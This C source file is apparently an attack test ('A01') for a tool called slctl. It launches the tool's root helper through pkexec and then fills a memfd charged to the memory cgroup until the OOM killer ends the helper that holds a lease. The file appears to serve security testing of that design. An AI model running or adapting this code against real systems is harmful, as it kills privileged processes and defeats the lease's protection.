/*
 * The attacker's caller for attack A01 (the memory cgroup's OOM killer
 * ends the root helper holding the lease). Built static so that its
 * resident set is a few pages: the helper is then the largest process of
 * the cgroup, and the OOM killer's choice.
 *
 *   oom-caller SLCTL ROOT
 *
 * 1. pkexec SLCTL __helper lease --root ROOT, as `slctl run` does (pipes
 *    for stdin and stdout), and wait for "ready";
 * 2. fill a memfd (charged to the cgroup, mapped by nobody, so counted in
 *    no process's rss) 64 KiB at a time until the helper has ended;
 * 3. free the memfd, print what happened, and end the "run" (exit).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char chunk[64 << 10];

int main(int argc, char **argv)
{
	int in[2], out[2], memfd, pidfd;
	char buf[16] = "";
	long kib = 0;
	pid_t helper;

	if (argc != 3)
		return 2;
	if (pipe(in) < 0 || pipe(out) < 0)
		return 1;
	helper = fork();
	if (helper == 0) {
		dup2(in[0], 0);
		dup2(out[1], 1);
		close(in[1]);
		close(out[0]);
		execlp("pkexec", "pkexec", argv[1], "__helper", "lease", "--root", argv[2],
		       (char *)NULL);
		_exit(127);
	}
	close(in[0]);
	close(out[1]);
	if (read(out[0], buf, sizeof(buf) - 1) <= 0 || strcmp(buf, "ready\n") != 0) {
		fprintf(stderr, "oom-caller: no ready (%s)\n", buf);
		return 1;
	}
	fprintf(stderr, "oom-caller: helper %d holds the lease; filling the cgroup\n", helper);
	pidfd = (int)syscall(SYS_pidfd_open, helper, 0);
	memfd = (int)syscall(SYS_memfd_create, "fill", 0);
	if (pidfd < 0 || memfd < 0)
		return 1;
	memset(chunk, 'x', sizeof(chunk));
	for (;;) {
		struct pollfd p = { .fd = pidfd, .events = POLLIN };

		if (poll(&p, 1, 0) > 0)
			break;
		if (write(memfd, chunk, sizeof(chunk)) != (ssize_t)sizeof(chunk)) {
			fprintf(stderr, "oom-caller: write: %s after %ld KiB\n", strerror(errno), kib);
			usleep(100000);
			continue;
		}
		kib += 64;
	}
	close(memfd);
	{
		int status = 0;

		waitpid(helper, &status, 0);
		fprintf(stderr, "oom-caller: helper ended after %ld KiB: %s %d\n", kib,
			WIFSIGNALED(status) ? "signal" : "exit",
			WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
	}
	/* The run ends here; the caller exits. */
	return 0;
}
